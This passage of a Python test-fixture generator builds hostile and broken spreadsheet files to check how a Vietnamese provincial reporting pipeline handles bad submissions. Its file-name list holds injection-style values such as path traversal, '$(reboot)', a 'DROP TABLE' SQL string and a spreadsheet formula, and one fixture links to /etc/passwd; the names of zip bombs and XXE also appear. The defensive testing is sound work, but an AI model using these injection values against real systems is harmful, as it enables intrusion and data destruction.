    return Hostile("truncated", "file-unreadable", ".xls", good[: rng.randint(100, 500)])


def corrupt_zip(rng: random.Random) -> Hostile:
    """Bytes flipped inside the compressed sheet: the CRC no longer matches."""
    good = bytearray(report_bytes())
    start = good.find(b"xl/worksheets/sheet1.xml") + 40
    for _ in range(rng.randint(3, 20)):
        at = rng.randint(start, start + 400)
        good[at] ^= 0xFF
    return Hostile("corrupt-zip", "file-unreadable", ".xlsx", bytes(good))


def broken_xml(rng: random.Random) -> Hostile:
    xml = sheet_xml(f'<row r="1">{number_cell("A1", 1)}</row>')
    cut = xml.replace(rng.choice(["</row>", "</sheetData>", "</c>"]), "", 1)
    return Hostile("broken-xml", "file-unreadable", ".xlsx", xlsx_bytes([cut]))


def zero_bytes(rng: random.Random) -> Hostile:
    return Hostile("zero-bytes", "file-empty", rng.choice([".xlsx", ".xls", ".ods"]), b"")


def docx_renamed(rng: random.Random) -> Hostile:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>" + "x" * rng.randint(0, 500))
    return Hostile("docx-renamed", "file-format-unsupported", ".xlsx", buffer.getvalue())


def picture_renamed(rng: random.Random) -> Hostile:
    magic = rng.choice(
        [b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"%PDF-1.7\n", b"GIF89a", b"MZ\x90\x00"]
    )
    return Hostile(
        "not-a-spreadsheet", "file-format-unsupported", ".xlsx", magic + rng.randbytes(2_000)
    )


def random_bytes(rng: random.Random) -> Hostile:
    return Hostile(
        "random-bytes",
        "file-unreadable",
        ".xlsx",
        b"\x00\x01" + rng.randbytes(rng.randint(10, 5_000)),
    )


def html_as_xls(rng: random.Random) -> Hostile:
    rows = "".join(
        f"<tr><td>{i}</td><td>Xã {i}</td><td>{rng.randint(0, 9)}</td></tr>" for i in range(20)
    )
    html = f"<html><head><meta charset='utf-8'></head><body><table>{rows}</table></body></html>"
    return Hostile("html-as-xls", None, ".xls", html.encode())


def csv_as_xlsx(rng: random.Random) -> Hostile:
    lines = ["STT,Nội dung,Số liệu"] + [f"{i},Chỉ tiêu {i},{rng.randint(0, 99)}" for i in range(30)]
    return Hostile("csv-as-xlsx", None, rng.choice([".xlsx", ".xls"]), "\n".join(lines).encode())


def other_province(rng: random.Random) -> Hostile:
    """A valid report of a Hà Nội ward sent from Lào Cai's folder: never filed under Hà Nội."""
    code, name = OTHER_PROVINCE_COMMUNE
    data = report_bytes(
        unit_line=f"CÔNG AN {name.upper()}",
        province_line=rng.choice(["CÔNG AN THÀNH PHỐ HÀ NỘI", "CÔNG AN TỈNH LÀO CAI"]),
    )
    return Hostile("other-province", "unit-outside-province", ".xlsx", data)


def oversize(rng: random.Random) -> Hostile:
    """Bigger than any report: never read into memory, still archived."""
    return Hostile(
        "oversize", "file-too-large", ".xlsx", b"PK\x03\x04" + b"\0" * (21 * 1024 * 1024)
    )


KINDS: tuple[Callable[[random.Random], Hostile], ...] = (
    extent_bomb,
    many_columns,
    merge_bomb,
    many_sheets,
    shared_strings_lie,
    zip_bomb,
    nested_zip,
    many_entries,
    zip_size_lie,
    zip_password,
    billion_laughs,
    xxe,
    encrypted_ooxml,
    encrypted_xls,
    xls_dimensions_bomb,
    xls_dimensions_inverted,
    xls_far_cells,
    xls_merge_panic,
    ole_corrupt,
    ole_cycle,
    ods_repeat_bomb,
    ods_laughs,
    html_span_bomb,
    xlsb,
    truncated,
    corrupt_zip,
    broken_xml,
    zero_bytes,
    docx_renamed,
    picture_renamed,
    random_bytes,
    html_as_xls,
    csv_as_xlsx,
    other_province,
    merged_sheets,
    live_content,
)
RARE_KINDS = (oversize,)  # one each per corpus: 21 MB apiece
# Files that cost little to read but would cost the report stage minutes: one each per
# corpus, when asked for (the whole-flow benchmark of the report stage uses them).
REPORT_STAGE_KINDS = (million_rows, unknown_units_table)


# --------------------------------------------------------------------------- file names

# Names that try to leave the inbox or to confuse whoever prints them. None can contain
# "/" or NUL on Linux; everything else is fair game.
NAME_DECORATIONS: tuple[str, ...] = (
    "",
    "..",
    "..\\..\\..\\Windows\\System32\\",
    "C:\\Users\\canbo\\Desktop\\",
    "~",
    "-rf ",
    "\u202egnp.",  # right-to-left override: shows as ".png" reversed
    "\u200f\u200e",  # RTL and LTR marks
    "Xa\u0301 Gia Phu\u0301 ",  # combining accents (NFD)
    "Xã Gia Phú ",  # precomposed (NFC)
    "🚨📊 ",
    "báo cáo tháng 10 ",
    "$(reboot) ",
    '=HYPERLINK("x") ',
    "'; DROP TABLE facts;-- ",
    "\t",
    "bao cao \udcc2\udce1o ",  # bytes that are not UTF-8 (a name written in a legacy code page)
    "\x1b[31m\x07 ",  # terminal escape and bell
    "dòng\nmới ",  # a line break
)


def hostile_name(index: int, kind: str, suffix: str, rng: random.Random) -> str:
    decoration = NAME_DECORATIONS[index % len(NAME_DECORATIONS)]
    name = f"{decoration}{index:03d}-{kind}{suffix}"
    if index % 23 == 7:  # as long as a Linux name may be: 255 bytes
        stem = f"{index:03d}-{kind}-" + "dài" * 200
        while len((stem + suffix).encode()) > 255:
            stem = stem[:-1]
        name = stem + suffix
    return name


# ------------------------------------------------------------------------------ corpus


@dataclass(frozen=True)
class ManifestEntry:
    path: str  # relative to the inbox root, as discover reports it
    kind: str
    rule: str | None  # None: read by content, any outcome but a crash
    in_submissions: bool  # False for what discover refuses (links, pipes)


def _write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    os.utime(path, (1_790_000_000, 1_790_000_000))  # 2026-09: stable across runs
    return path


def _special_entries(
    folder: Path, outside: Path, relative: Callable[[Path], str]
) -> list[ManifestEntry]:
    """Links to files and folders outside the inbox, a dangling link, a pipe: reported by
    discover, never read."""
    outside.mkdir(parents=True, exist_ok=True)
    secret = outside / "mat.xlsx"
    secret.write_bytes(report_bytes())
    entries = []
    for name, target in (
        ("lien-ket-ra-ngoai.xlsx", secret),
        ("lien-ket-he-thong.xlsx", Path("/etc/passwd")),
        ("lien-ket-hong.xlsx", outside / "khong-co.xlsx"),
        ("thu-muc-lien-ket", outside),
    ):
        link = folder / name
        link.symlink_to(target, target_is_directory=target == outside)
        entries.append(ManifestEntry(relative(link), "symlink", "file-outside-province", False))
    fifo = folder / "ong-dan.xlsx"
    os.mkfifo(fifo)
    entries.append(ManifestEntry(relative(fifo), "fifo", "file-outside-province", False))
    hard = folder / "lien-ket-cung.xlsx"
    try:  # a second name for a file outside the inbox (same file system only)
        os.link(secret, hard)
    except OSError:
        pass
    else:
        entries.append(ManifestEntry(relative(hard), "hard-link", "file-outside-province", False))
    return entries


def build_corpus(
    out: Path,
    count: int = 200,
    period: str = PERIOD,
    province_folder: str = f"{PROVINCE}-lao-cai",
    seed: int = 2026,
    oversize_files: bool = True,
    special: bool = True,
    report_stage: bool = False,
) -> list[ManifestEntry]:
    """Write `count` hostile files (every kind in turn, each with its own variation) under
    `out/inbox/<period>/<province_folder>/`, plus links and a pipe when `special`, one of
    each REPORT_STAGE_KINDS when `report_stage`, and the manifest
    `out/hostile-manifest.json`. Returns the manifest."""
    inbox = Path(out) / "inbox"
    folder = inbox / period / province_folder
    folder.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)

    def relative(path: Path) -> str:
        from antq.tasks.discover import original_path_of  # as the pipeline will record it

        return original_path_of(path, inbox)

    builders = list(KINDS)
    rare = list(RARE_KINDS) if oversize_files else []
    heavy = list(REPORT_STAGE_KINDS) if report_stage else []
    manifest: list[ManifestEntry] = []
    for index in range(count + len(heavy)):
        if index >= count:
            builder = heavy[index - count]
        elif rare and index == count // 2:
            builder = rare.pop()
        else:
            builder = builders[index % len(builders)]
        item = builder(random.Random(rng.random()))
        name = hostile_name(index, item.kind, item.suffix, rng)
        path = _write(folder, name, item.data)
        manifest.append(ManifestEntry(relative(path), item.kind, item.rule, True))
    if special:
        manifest += _special_entries(folder, Path(out) / "outside", relative)
    (Path(out) / "hostile-manifest.json").write_text(
        json.dumps([asdict(e) for e in manifest], indent=1)  # ASCII: names may hold any byte
    )
    return manifest


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m tools.hostile",
        description="Write a corpus of hostile and broken submissions and the rule each must raise.",
    )
    parser.add_argument(
        "--out", type=Path, required=True, help="folder for inbox/ and the manifest"
    )
    parser.add_argument("--count", type=int, default=200)
    parser.add_argument("--period", default=PERIOD)
    parser.add_argument("--province-folder", default=f"{PROVINCE}-lao-cai")
    parser.add_argument("--seed", type=int, default=2026)
    parser.add_argument("--no-oversize", action="store_true", help="skip the 21 MB file")
    parser.add_argument(
        "--report-stage",
        action="store_true",
        help="add a million-row file and a table of 30,000 unknown communes",
    )
    args = parser.parse_args(argv)
    manifest = build_corpus(
        args.out,
        args.count,
        args.period,
        args.province_folder,
        args.seed,
        oversize_files=not args.no_oversize,
        report_stage=args.report_stage,
    )
    kinds = sorted({e.kind for e in manifest})
    print(f"{len(manifest)} entries of {len(kinds)} kinds -> {args.out / 'inbox'}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
